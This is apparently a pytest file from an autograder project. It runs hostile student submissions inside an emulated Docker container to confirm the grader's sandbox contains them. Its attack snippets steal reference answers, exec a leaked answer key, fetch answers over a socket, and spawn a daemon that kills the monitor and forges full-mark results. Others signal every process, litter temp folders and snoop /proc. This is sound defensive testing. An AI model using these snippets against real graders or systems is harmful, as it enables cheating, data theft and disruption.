"""Attackers graded inside an emulation of Docker's default container, where namespaces are refused.

tests/docker_container.py rebuilds what `docker run` gives by default (Docker's 14 capabilities, moby's
seccomp profile loaded as data, its own mount, PID, IPC and UTS namespaces); tests/container_session.py
runs `check`, `batch` and Gradescope's run in it and looks at what each left. Every attacker is the
blank stub with one attack at its top level; the score-gated ones turn into full marks if the attack
works:
- reference: import the kit's `reference` from the project checkout beside the grader;
- secret: an answer key left world-readable elsewhere on the machine;
- network: fetch the answers over TCP from a server of this test;
- daemon: a process that outlives its sandbox (first ending the sandbox's monitor, where it may) and
  rewrites every results file it knows of to full marks until it is ended (the session ends what each
  run left; at most 10 minutes). It closes the descriptors it inherited, as a daemon detaches: one that
  kept the sandbox's socket open would make each load wait for it until the submission's budget is
  spent (the budget bounds that; it is not what this attack is about), and one that ended itself sooner
  would be seen or not by chance, as that cycle fell against the budget;
- litter: files in /tmp, /dev/shm and /var/tmp;
- signal: kill(-1, SIGKILL), every process it may signal (the grader's, where it may);
- snoop: other processes' command lines through /proc.
As root and as a user without root (the container started with --user, or a hardened desktop where user
namespaces are refused). With Landlock every attack is held; with Landlock turned off (the "reduced"
level), what the report lists as exposed is exactly what the attacks achieve.
"""

import ctypes
import json
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import pytest
import test_sandbox_attacks as corpus
from grading_support import ROOT, solution_source

from grader.platforms import runner

pytestmark = pytest.mark.container  # the attackers again, inside the emulated container, with and without root

HERE = Path(__file__).resolve().parent
USER = "optimkit-instructor"  # the same account tests/test_sandbox_attacks.py makes
MARK = f"{os.getpid()}"

ATTACKS = {
    "reference": """
def _optimkit_attack():
    import sys
    sys.meta_path[:] = [finder for finder in sys.meta_path if "Block" not in type(finder).__name__]
    sys.path.insert(0, {project!r})
    import reference
    return reference


try:
    _taken = _optimkit_attack()
    Adagrad, RMSprop, Momentum, Adam = _taken.Adagrad, _taken.RMSprop, _taken.Momentum, _taken.Adam
except BaseException:
    pass
""",
    "secret": """
try:
    _scope = {{"__name__": "stolen"}}
    exec(open({secret!r}, encoding="utf-8").read(), _scope)
    Adagrad, RMSprop, Momentum, Adam = (_scope[_name] for _name in ("Adagrad", "RMSprop", "Momentum", "Adam"))
except BaseException:
    pass
""",
    "network": """
def _optimkit_fetch():
    import socket
    chunks = []
    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as connection:
        while True:
            chunk = connection.recv(65536)
            if not chunk:
                return b"".join(chunks).decode("utf-8")
            chunks.append(chunk)


try:
    _scope = {{"__name__": "fetched"}}
    exec(_optimkit_fetch(), _scope)
    Adagrad, RMSprop, Momentum, Adam = (_scope[_name] for _name in ("Adagrad", "RMSprop", "Momentum", "Adam"))
except BaseException:
    pass
""",
    "daemon": """
def _optimkit_daemon():
    import json, os, signal, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(3, 65536)  # as a daemon detaches: the sandbox's socket is not kept open
            forged = json.dumps({{"score": 45, "max_score": 45, "tests": [], "output": "forged"}})
            end = time.time() + 600  # longer than any run: only the session (or the grader) ends it
            while time.time() < end:
                for path in {results!r}:
                    try:
                        with open(path, "w") as file:
                            file.write(forged)
                    except OSError:
                        pass
                time.sleep(0.2)
            os._exit(0)
        os._exit(0)
    time.sleep(0.3)
    try:  # the sandbox's monitor, which would end the daemon: where it may be signalled
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    return 1


daemon = _optimkit_daemon()
""",
    "litter": """
def _optimkit_litter():
    made = []
    for folder in ("/tmp", "/dev/shm", "/var/tmp"):
        try:
            with open(folder + "/optimkit-litter-{mark}", "w") as file:
                file.write("x")
            made.append(folder)
        except OSError:
            pass
    return made


litter = _optimkit_litter()
""",
    "signal": """
def _optimkit_signal():
    import os, signal
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return 1


signalled = _optimkit_signal()
""",
    "snoop": """
def _optimkit_snoop():
    import os
    seen = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open("/proc/" + pid + "/cmdline", "rb") as file:
                command = file.read()
        except OSError:
            continue
        if b"grader" in command and int(pid) != os.getpid():
            seen.append(command.replace(b"\\0", b" ").decode(errors="replace")[:80])
    if seen:
        raise RuntimeError("SNOOPED " + " | ".join(seen))
    return 0


snooped = _optimkit_snoop()
""",
}
SCORED = ("reference", "secret", "network")  # full marks if the attack works
GRADESCOPE = ("reference", "network", "daemon")


def _solution():
    return solution_source()


@pytest.fixture(scope="module")
def setting():
    """Root, libseccomp, the unprivileged account, a world-readable folder with the attackers, an answer
    key left readable, a server that hands out the answers, and a Gradescope folder."""
    if os.geteuid() != 0:
        pytest.skip("emulating a container needs root (as Docker does)")
    try:
        ctypes.CDLL("libseccomp.so.2")
    except OSError:
        pytest.skip("libseccomp is missing (Debian: apt-get install libseccomp2)")
    try:
        pwd.getpwnam(USER)
    except KeyError:
        made = subprocess.run(
            ["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", USER],
            capture_output=True,
            text=True,
        )
        if made.returncode != 0:
            pytest.skip(f"cannot create an unprivileged user here: {made.stderr.strip()}")
    solution = _solution()
    base = Path(tempfile.mkdtemp(prefix="optimkit-container-"))
    base.chmod(0o755)
    key = base / "leaked-key"
    key.mkdir(mode=0o755)
    (key / "optimizers.py").write_text(solution, encoding="utf-8")
    (key / "optimizers.py").chmod(0o644)
    server = socket.create_server(("127.0.0.1", 0))
    connections = []

    def serve():
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            connections.append(1)
            with connection:
                connection.sendall(solution.encode("utf-8"))

    threading.Thread(target=serve, daemon=True).start()
    yield {"base": base, "key": key / "optimizers.py", "port": server.getsockname()[1], "connections": connections}
    server.close()
    if not os.environ.get("OPTIMKIT_KEEP_CONTAINER_TEST"):  # set it to read the reports after a failure
        shutil.rmtree(base, ignore_errors=True)


def _container_session(base, user):
    """The command that runs tests/container_session.py with base/config.json inside the emulated container."""
    return [
        sys.executable,
        str(HERE / "docker_container.py"),
        *(["--user", user] if user else []),
        "--expose",
        str(base),
        "--expose",
        str(ROOT),
        "--",
        sys.executable,
        str(HERE / "container_session.py"),
        str(base / "config.json"),
    ]


def _session(setting, name, user=None, landlock=True):
    """Run the attackers in a fresh emulated container; the session's report."""
    base = setting["base"] / name
    out = base / "out"
    gradescope = base / "autograder"
    for folder in (base, out, base / "class", base / "one", gradescope, gradescope / "source"):
        folder.mkdir(mode=0o755)

    (gradescope / "source" / runner.SETTINGS_FILE).write_text(runner.Settings().to_json(), encoding="utf-8")
    shutil.copyfile(ROOT / "grader" / "judge" / "rubric.json", gradescope / "source" / runner.RUBRIC_FILE)
    shutil.copyfile(
        ROOT / "grader" / "platforms" / "files" / "gradescope_run_autograder.sh", gradescope / "run_autograder"
    )
    shutil.copyfile(ROOT / "examples" / "submissions" / "alice_nguyen.py", base / "class" / "alice.py")  # honest
    stub = (ROOT / "assignments" / "optimizers.py").read_text(encoding="utf-8")
    results = [
        str(out / "check" / "daemon.json"),
        str(out / "batch" / "results" / "daemon.json"),
        str(gradescope / "results" / "results.json"),
    ]
    submissions = {"stub": base / "one" / "stub.py"}
    submissions["stub"].write_text(stub, encoding="utf-8")
    for attack, text in ATTACKS.items():
        source = (
            stub
            + "\n"
            + text.format(
                project=str(ROOT), secret=str(setting["key"]), port=setting["port"], results=results, mark=MARK
            )
        )
        submissions[attack] = base / "one" / f"{attack}.py"
        submissions[attack].write_text(source, encoding="utf-8")
        (base / "class" / f"{attack}.py").write_text(source, encoding="utf-8")
    for path in base.rglob("*"):
        path.chmod(0o755 if path.is_dir() else 0o644)
    if user is not None:
        for path in [base, *base.rglob("*")]:
            shutil.chown(path, user, user)
    config = {
        "out": str(out),
        "python": sys.executable,
        "project": str(ROOT),
        "submissions": {key: str(value) for key, value in submissions.items()},
        "check": ["stub", *ATTACKS],
        "batch": str(base / "class"),
        "gradescope": list(GRADESCOPE),
        "gradescope_root": str(gradescope),
    }
    (base / "config.json").write_text(json.dumps(config), encoding="utf-8")
    environment = {**os.environ, "OPTIMKIT_LANDLOCK": "on" if landlock else "off"}
    environment.pop("PYTHONPATH", None)
    before = len(setting["connections"])
    done = subprocess.run(_container_session(base, user), capture_output=True, text=True, timeout=1500, env=environment)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    report["connections"] = len(setting["connections"]) - before
    return report


def _achieved(report, stub_score):
    """Which attacks worked, in every run of the session: {attack: set of runs where it worked}."""
    worked = {attack: set() for attack in ATTACKS}
    runs = [("check", attack, report["check"][attack]) for attack in ATTACKS]
    runs += [("gradescope", attack, entry) for attack, entry in report["gradescope"].items()]
    for kind, attack, entry in runs:
        after = entry["after"][attack]
        left = entry["left"]
        if attack in SCORED and after["score"] is not None and after["score"] > stub_score:
            worked[attack].add(kind)
        if attack == "daemon" and (left["processes"] or after["output"] == "forged"):
            worked[attack].add(kind)
        if attack == "litter" and left["litter"]:
            worked[attack].add(kind)
        if attack == "signal" and (entry["returncode"] not in (0, 1) or after["score"] is None):
            worked[attack].add(kind)
        if attack == "snoop" and "SNOOPED" in after["output"]:
            worked[attack].add(kind)
    return worked


def _levels(report):
    return {
        entry["after"][name]["isolation"]["level"]
        for name, entry in report["check"].items()
        if entry["after"][name]["isolation"]
    }


def _expect_all_held(report):
    stub = report["check"]["stub"]["after"]["stub"]
    assert stub["score"] == 5, stub  # the blank stub's own marks: grading works in the container
    assert _levels(report) == {"landlock"}, _levels(report)
    worked = _achieved(report, stub["score"])
    assert all(not runs for runs in worked.values()), worked
    assert report["connections"] == 0
    batch = report["batch"]
    assert batch["returncode"] == 0, batch["stderr"]
    assert not batch["left"]["processes"] and not batch["left"]["litter"]
    assert batch["after"].pop("alice")["score"] == 45  # an honest classmate loses nothing
    for attack, result in batch["after"].items():
        assert result["score"] == stub["score"], (attack, result["output"][:500])
    for attack, entry in report["gradescope"].items():
        assert entry["after"][attack]["score"] == stub["score"], (attack, entry["stdout"])


def _exposed(detail):
    """The attacks a reduced level's detail says can work (its list, read back into attacks)."""
    exposed = detail.split("Exposed: ", 1)[1]
    said = set()
    if "can read every file" in exposed:
        said |= {"reference", "secret"}
    if "leaves in /tmp and /dev/shm stays" in exposed or "elsewhere it stays" in exposed:
        said.add("litter")
    if "can signal" in exposed:
        said |= {"signal", "daemon"}
    if "through /proc" in exposed:
        said.add("snoop")
    if "network" in exposed:
        said.add("network")
    return said


def _expect_exactly_the_list(report):
    stub = report["check"]["stub"]["after"]["stub"]
    isolation = stub["isolation"]
    assert isolation["level"] == "reduced" and "OPTIMKIT_LANDLOCK=off" in isolation["summary"]
    worked = _achieved(report, stub["score"] or 0)
    achieved = {attack for attack, runs in worked.items() if "check" in runs}
    assert achieved == _exposed(isolation["detail"]), (achieved, isolation["detail"])
    # A platform run refuses to grade where the answers are readable: the checkout beside the grader is.
    for attack, entry in report["gradescope"].items():
        result = entry["after"][attack]
        if attack != "daemon" or "daemon" not in achieved:
            assert result["score"] == 0 and "could read the answers" in result["output"], (attack, result)


def test_in_dockers_default_container_as_root_every_attack_is_held(setting):
    _expect_all_held(_session(setting, "root"))


def test_in_dockers_default_container_as_root_without_landlock_the_list_is_exact(setting):
    report = _session(setting, "root-reduced", landlock=False)
    _expect_exactly_the_list(report)
    assert report["check"]["stub"]["after"]["stub"]["score"] == 5


def test_without_root_where_namespaces_are_refused_every_attack_is_held(setting):
    _expect_all_held(_session(setting, "user", user=USER))


def test_without_root_where_namespaces_are_refused_without_landlock_the_list_is_exact(setting):
    _expect_exactly_the_list(_session(setting, "user-reduced", user=USER, landlock=False))


def test_on_a_hardened_desktop_without_root_check_grades_with_landlock(setting):
    """Ubuntu 24.04 and later without root (tests/hardened_host.py): a user namespace can be made but
    nothing mounted in it. `check` must not die in that half-made namespace (every submission then scored
    0: no sandbox could be started); it grades at the landlock level, and the thief gets the stub's marks."""
    base = setting["base"] / "hardened"
    base.mkdir(mode=0o755)
    stub = (ROOT / "assignments" / "optimizers.py").read_text(encoding="utf-8")
    thief = stub + "\n" + ATTACKS["reference"].format(project=str(ROOT))
    for name, text in (("stub", stub), ("thief", thief)):
        (base / f"{name}.py").write_text(text, encoding="utf-8")
    shutil.chown(base, USER, USER)
    script = "; ".join(
        f"{sys.executable} -m grader check {base / name}.py --json {base / name}.json" for name in ("stub", "thief")
    )
    environment = {**os.environ}
    environment.pop("PYTHONPATH", None)
    done = subprocess.run(
        [
            "unshare",
            "--mount",
            "--propagation",
            "private",
            sys.executable,
            str(HERE / "run_unprivileged.py"),
            USER,
            str(base),
            str(ROOT),
            "--",
            sys.executable,
            str(HERE / "hardened_host.py"),
            "--",
            "sh",
            "-c",
            script,
        ],
        capture_output=True,
        text=True,
        timeout=600,
        cwd=ROOT,
        env=environment,
    )
    results = {name: json.loads((base / f"{name}.json").read_text(encoding="utf-8")) for name in ("stub", "thief")}
    for name, result in results.items():
        isolation = result["extra_data"]["isolation"]
        assert isolation["level"] == "landlock", (name, isolation, done.stderr[-2000:])
        assert "a user namespace that can mount" in isolation["summary"]
        assert result["score"] == 5, (name, result["output"][:1000])


@pytest.mark.parametrize("user", [None, USER], ids=["root", "without-root"])
def test_the_earlier_hostile_corpus_is_held_in_the_container(setting, user):
    """tests/test_sandbox_attacks.py's attackers (stealing from the project, git objects, /proc and a key
    left in /tmp; a daemon that kills and forges; /tmp and /dev/shm filled; forty spinners; a backdoor in
    the grader and torch; signals; garbled replies; the keyring thief), with an honest classmate, graded
    by `batch` in the container at the landlock level: each attacker gets the stub's marks (a garbler at
    most), the classmate hers, nothing secret reaches any result, and nothing is left behind."""
    name = "corpus-" + (user or "root")
    base = setting["base"] / name
    out = base / "out"
    for folder in (base, out, base / "class"):
        folder.mkdir(mode=0o755)
    stub = (ROOT / "assignments" / "optimizers.py").read_text(encoding="utf-8")
    secret = f"CORPUS-SECRET-{MARK}"
    (base / "class" / "alice.py").write_text(
        (ROOT / "examples" / "submissions" / "alice_nguyen.py").read_text(encoding="utf-8") + f"\n# {secret}\n",
        encoding="utf-8",
    )
    attackers = {key: text for key, text in corpus.ATTACKS.items() if key != "trickle"}  # trickle: its own budget test
    for key, text in attackers.items():
        (base / "class" / f"{key}.py").write_text(stub + "\n" + text, encoding="utf-8")
    for path in base.rglob("*"):
        path.chmod(0o755 if path.is_dir() else 0o644)
    if user is not None:
        for path in [base, *base.rglob("*")]:
            shutil.chown(path, user, user)
    config = {
        "out": str(out),
        "python": sys.executable,
        "project": str(ROOT),
        "submissions": {},
        "batch": str(base / "class"),
    }
    (base / "config.json").write_text(json.dumps(config), encoding="utf-8")
    environment = {**os.environ}
    environment.pop("PYTHONPATH", None)
    before = corpus._protected_hash()
    done = subprocess.run(
        _container_session(base, user),
        capture_output=True,
        text=True,
        timeout=1500,
        env=environment,
    )
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    batch = json.loads((out / "report.json").read_text(encoding="utf-8"))["batch"]
    assert batch["returncode"] == 0, batch["stderr"]
    assert not batch["left"]["processes"] and not batch["left"]["litter"], batch["left"]
    results = batch["after"]
    assert results.pop("alice")["score"] == 45
    for key, result in results.items():
        assert result["isolation"]["level"] == "landlock"
        if key in corpus.AT_MOST:
            assert result["score"] <= 5, (key, result["output"][:500])
        else:
            assert result["score"] == 5, (key, result["output"][:500])
    written = "".join(path.read_text(encoding="utf-8", errors="replace") for path in out.rglob("*") if path.is_file())
    for mark in (secret, corpus.REFERENCE_MARK):
        assert mark not in written
    assert corpus._protected_hash() == before, "the grader, the reference or torch was changed"
